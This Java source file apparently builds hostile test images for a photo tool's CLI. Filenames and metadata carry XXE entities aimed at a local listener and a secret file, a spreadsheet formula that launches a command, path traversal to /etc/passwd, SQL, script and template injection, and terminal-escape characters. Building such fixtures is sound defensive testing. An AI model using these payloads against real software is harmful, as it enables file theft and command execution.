package rondure.cli;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.zip.CRC32;
import javax.imageio.ImageIO;
import rondure.intake.HostileExif;
import rondure.sim.OutputFormat;

/** A night of frames that try to act on whoever reads them or what is made of them. */
final class HostileFiles {
  /** Frames in {@link #night}. */
  static final int COUNT = 7;

  private static final int PNG_HEADER_END = 33;

  private final String xxe;
  private final String tag;

  /**
   * @param secret a file that external entities point to
   * @param port where somebody listens for calls
   */
  HostileFiles(Path secret, int port) {
    String address = "http://127.0.0.1:" + port + "/";
    tag = "<img src='" + address + "x'><b>bold {{title}} ${1+1}";
    xxe =
        "<!DOCTYPE x ["
            + "<!ENTITY far SYSTEM '"
            + address
            + "far'><!ENTITY near SYSTEM '"
            + secret.toUri()
            + "'><!ENTITY % all SYSTEM '"
            + address
            + "all.dtd'>%all;]>"
            + "<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF"
            + " xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><rdf:Description"
            + " rdf:about='' xmlns:tiff='http://ns.adobe.com/tiff/1.0/'>"
            + "<tiff:Model>&near;&far;</tiff:Model></rdf:Description></rdf:RDF></x:xmpmeta>";
  }

  Path night(Path folder) throws IOException {
    Files.createDirectories(folder);
    String acting = "\u001B[2J\u202Egnp.\u0007";
    write(folder, "=1+1.jpg", "=cmd|'/C calc'!A0", tag);
    write(folder, "+SUM(A1).jpg", "+1" + acting, "../../../etc/passwd");
    write(folder, "@import url(x).jpg", "@SUM(1)" + tag, "\r\n=HYPERLINK(1)");
    write(folder, "<b>bold &amp; {{#frames}}.jpg", "</td><script>1</script>", acting);
    SmallNight.copy(OutputFormat.TIFF, 1, folder.resolve("'; DROP TABLE x --.tif"));
    write(folder, "%2e%2e%2f..\\x.jpg", "Vesper", "-1-1");
    Files.write(folder.resolve("entities.png"), png());
    Files.writeString(folder.resolve("=1+1.xmp"), xxe);
    return folder;
  }

  private void write(Path folder, String name, String camera, String lens) throws IOException {
    byte[] jpeg = SmallNight.bytes(OutputFormat.JPEG, 1);
    Files.write(folder.resolve(name), HostileExif.in(jpeg, camera, lens, xxe));
  }

  /** XMP with entities in an iTXt chunk, and a link in a text (PNG, third edition, 11.3.3). */
  private byte[] png() throws IOException {
    BufferedImage picture =
        ImageIO.read(new ByteArrayInputStream(SmallNight.bytes(OutputFormat.JPEG, 2)));
    ByteArrayOutputStream plain = new ByteArrayOutputStream();
    ImageIO.write(picture, "png", plain);
    byte[] png = plain.toByteArray();
    ByteArrayOutputStream all = new ByteArrayOutputStream();
    all.write(png, 0, PNG_HEADER_END);
    all.writeBytes(chunk("iTXt", "XML:com.adobe.xmp\0\0\0\0\0" + xxe));
    all.writeBytes(chunk("tEXt", "Comment\0" + tag));
    all.write(png, PNG_HEADER_END, png.length - PNG_HEADER_END);
    return all.toByteArray();
  }

  private static byte[] chunk(String name, String content) {
    byte[] named = (name + content).getBytes(StandardCharsets.UTF_8);
    CRC32 sum = new CRC32();
    sum.update(named);
    return ByteBuffer.allocate(named.length + 8)
        .putInt(named.length - name.length())
        .put(named)
        .putInt((int) sum.getValue())
        .array();
  }
}
